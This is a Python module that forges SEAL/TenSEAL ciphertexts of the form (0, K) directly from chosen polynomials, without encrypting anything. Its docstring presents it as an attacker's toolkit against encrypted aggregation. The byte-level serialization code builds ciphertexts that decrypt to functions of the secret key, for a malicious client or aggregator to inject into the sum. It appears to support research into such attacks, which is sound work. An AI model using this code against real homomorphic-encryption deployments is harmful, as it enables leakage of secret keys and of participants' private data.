"""An attacker's tools: ciphertexts built from chosen polynomials, not by encryption.

`key_term(template, K)` is the ciphertext (0, K): it decrypts to (a rounding of) K·s, a
function of the secret key s. Adding it to a client's ciphertext is the malicious client's
`c1 + K`; adding it to the aggregate is the aggregator's `sum + (0, K)`; sending it alone is
the aggregator's `(0, K)`. SEAL has no API for this, so the bytes are written by hand in SEAL's
uncompressed serialization and wrapped like the template TenSEAL vector."""

from __future__ import annotations

import struct

import numpy as np
import tenseal as ts

_SEAL_MAGIC = b"\x5e\xa1"


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        low, value = value & 0x7F, value >> 7
        out.append(low | (0x80 if value else 0))
        if not value:
            return bytes(out)


def _seal_header(version: bytes, payload_length: int) -> bytes:
    """SEAL's 16-byte header: magic, header size, version, compression none, reserved, total size."""
    return _SEAL_MAGIC + b"\x10" + version + b"\x00\x00\x00" + struct.pack("<Q", 16 + payload_length)


def key_term(template: ts.CKKSVector | ts.BFVVector, k_polynomial: np.ndarray) -> bytes:
    """The serialized vector (0, K), with the template's parameters, level, scale and slot count.
    For CKKS, `k_polynomial` is given in SEAL's NTT form (a constant c in every NTT slot is the
    constant polynomial c)."""
    blob = template.serialize()
    start = blob.index(_SEAL_MAGIC)
    (size,) = struct.unpack("<Q", blob[start + 8:start + 16])
    version = blob[start + 3:start + 5]
    ciphertext = template.ciphertext()[0]
    degree = ciphertext.poly_modulus_degree()
    data = np.concatenate([np.zeros(degree, dtype="<u8"), np.asarray(k_polynomial, dtype="<u8")]).tobytes()
    inner = struct.pack("<Q", 2 * degree) + data
    members = (
        struct.pack("<4Q", *ciphertext.parms_id()) + bytes([int(ciphertext.is_ntt_form())])
        + struct.pack("<QQQdQ", 2, degree, ciphertext.coeff_modulus_size(), ciphertext.scale, 1)
        + _seal_header(version, len(inner)) + inner
    )
    crafted = _seal_header(version, len(members)) + members
    prefix = blob[:start]
    length = _varint(size)
    assert prefix.endswith(length), "unexpected TenSEAL framing"
    return prefix[:-len(length)] + _varint(len(crafted)) + crafted + blob[start + size:]
